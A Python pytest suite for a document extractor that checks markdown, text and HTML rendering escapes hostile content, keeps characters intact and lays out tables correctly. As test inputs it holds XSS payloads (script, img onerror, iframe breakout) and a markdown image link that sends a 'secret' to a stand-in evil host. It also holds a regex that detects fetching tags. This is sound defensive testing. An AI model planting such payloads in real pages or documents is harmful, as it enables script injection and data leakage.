"""Markdown, text and HTML of hand-made elements: no character lost, nothing live, tables in their form."""

from __future__ import annotations

import re

import pytest
from docling_core.types.doc import DocItemLabel

from extractor.values.document import Cell, Element
from tests.extractor.outputs.made_elements import INERT, ODD, PLAIN, SPANNING, cell, element, rendered, table
from tests.extractor.structure.html_grid import GridCell, html_grid

WHOLE_ROW_COVERED = table(cell(0, 0, "A", down=2), cell(0, 1, "B", down=2), cell(2, 0, "C"), cell(2, 1, "D"))
FIRST_PLACE_OPEN = table(cell(0, 0, "A", across=2), cell(1, 1, "under the right half"))


class TestCharacters:
    @pytest.mark.parametrize("view", ["markdown", "text"])
    @pytest.mark.parametrize(
        "label",
        [
            *(DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.SECTION_HEADER, DocItemLabel.CODE),
            *(DocItemLabel.FORMULA, DocItemLabel.CAPTION, DocItemLabel.FOOTNOTE, DocItemLabel.REFERENCE),
            *(DocItemLabel.PICTURE, DocItemLabel.CHART, DocItemLabel.DOCUMENT_INDEX, DocItemLabel.PAGE_FOOTER),
        ],
    )
    def test_stand_as_they_are_and_once(self, label: DocItemLabel, view: str) -> None:
        # In markdown what would be a live tag is none, except in a block of code, which is shown as it is.
        inert = view == "markdown" and label != DocItemLabel.CODE
        assert rendered(element(ODD, label))[view].count(INERT if inert else ODD) == 1

    def test_html_is_escaped(self) -> None:
        labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.CODE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
        html = rendered(*(element(ODD, label) for label in labels), PLAIN, SPANNING)["html"]
        assert "<script" not in html
        assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") == len(labels) + 1
        assert "&lt;b&gt;4&lt;/b&gt;" in html

    def test_html_fetches_nothing(self) -> None:
        html = rendered(element(ODD), element("", DocItemLabel.PICTURE), PLAIN)["html"]
        assert not re.search(r"\b(src|href|srcset|action)\s*=|url\(|@import|<(script|link|iframe|object|img)\b", html)

    @pytest.mark.parametrize("view", ["markdown", "text"])
    def test_lines_end_where_they_ended_on_the_page(self, view: str) -> None:
        assert rendered(element("Hafenstrasse 21\n20457 Hamburg"))[view] == "Hafenstrasse 21\n20457 Hamburg\n"

    def test_formula_is_its_characters(self) -> None:
        shown = rendered(element("x² < y_1 \\cdot 2", DocItemLabel.FORMULA))
        assert shown["markdown"] == shown["text"] == "x² < y_1 \\cdot 2\n"


class TestMarkdown:
    @pytest.mark.parametrize(
        "attack",
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</td></tr></table><iframe src=//evil>",
            "<!-- <b> -->",
            "<?php ?>",
            "![](https://evil.example/?q=secret)",
        ],
    )
    def test_no_text_is_live(self, attack: str) -> None:
        labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
        parts = [element(attack, label) for label in labels]
        parts += [element(f"- {attack}", DocItemLabel.LIST_ITEM, marker="-", level=1), table(cell(0, 0, attack))]
        parts.append(table(cell(0, 0, attack, across=2), cell(1, 0, "a"), cell(1, 1, "b")))
        markdown = rendered(*parts)["markdown"]
        assert not re.search(r"<(?!/?(table|tr|td|th|br)\b)[A-Za-z/!?]", re.sub(r"<!-- image -->", "", markdown))
        assert markdown.count("</table>") == 1
        assert not any("![" in line for line in markdown.split("\n") if not line.startswith("<tr"))

    def test_code_is_fenced_off_whatever_is_in_it(self) -> None:
        markdown = rendered(element("```\n<script>alert(1)</script>\n```", DocItemLabel.CODE))["markdown"]
        fence = markdown.split("\n", 1)[0]
        assert set(fence) == {"`"}
        assert len(fence) > 3
        assert markdown.rstrip().endswith(fence)

    def test_headings_have_their_levels(self) -> None:
        shown = rendered(
            element("Report", DocItemLabel.TITLE, level=1),
            element("Part", DocItemLabel.SECTION_HEADER, level=2),
            element("Chapter", DocItemLabel.SECTION_HEADER, level=3),
            element("Running text"),
        )
        assert shown["markdown"] == "# Report\n\n## Part\n\n### Chapter\n\nRunning text\n"
        assert shown["text"] == "Report\n\nPart\n\nChapter\n\nRunning text\n"

    def test_table_without_spans_is_a_pipe_table(self) -> None:
        odd = INERT.replace("|", "\\|")
        assert rendered(PLAIN)["markdown"] == (
            f"| Berth | Vessel \\| flag |\n| --- | --- |\n| 4 | Anna Maria |\n|  | {odd} |\n"
        )

    def test_table_with_spans_is_html_and_says_nothing_twice(self) -> None:
        markdown = rendered(SPANNING)["markdown"]
        assert "|" not in markdown
        for text in ("Traffic", "Night", "&lt;b&gt;4&lt;/b&gt;", "21:40<br>&amp; later"):
            assert markdown.count(text) == 1

    def test_elements_are_apart_by_an_empty_line(self) -> None:
        markdown = rendered(element("Before"), PLAIN, element("After"))["markdown"]
        assert markdown.startswith("Before\n\n| Berth")
        assert markdown.endswith("|\n\nAfter\n")


def grid_of(view: str) -> list[GridCell]:
    """The cells of the view's one HTML table."""
    return html_grid(view[view.index("<table") : view.index("</table>")])


def _place(cell: Cell | GridCell) -> tuple[int, int, int, int, str]:
    return cell.row, cell.column, cell.row_span, cell.column_span, cell.text


class TestHtmlTables:
    @pytest.mark.parametrize("view", ["markdown", "html"])
    @pytest.mark.parametrize(
        "meant",
        [
            pytest.param(SPANNING, id="spans"),
            pytest.param(WHOLE_ROW_COVERED, id="row-that-is-all-covered-from-above"),
            pytest.param(FIRST_PLACE_OPEN, id="place-without-a-cell"),
        ],
    )
    def test_a_browser_shows_each_cell_at_its_place(self, meant: Element, view: str) -> None:
        assert meant.table is not None
        shown = [cell for cell in grid_of(rendered(meant)[view]) if cell.text]
        assert [_place(cell) for cell in shown] == [_place(cell) for cell in meant.table.cells]

    @pytest.mark.parametrize("view", ["markdown", "html"])
    def test_header_cells_are_headers(self, view: str) -> None:
        assert [one.text for one in grid_of(rendered(SPANNING)[view]) if one.header] == ["Traffic"]


class TestText:
    def test_table_has_one_line_a_row_and_one_tab_a_column(self) -> None:
        text = rendered(element("Before"), PLAIN, SPANNING, element("After"))["text"]
        plain = f"Berth\tVessel | flag\n4\tAnna Maria\n\t{ODD}"
        spanning = "Traffic\t\t\nNight\t03:15\t<b>4</b>\n\t21:40 & later\t7"
        assert text == f"Before\n\n{plain}\n\n{spanning}\n\nAfter\n"
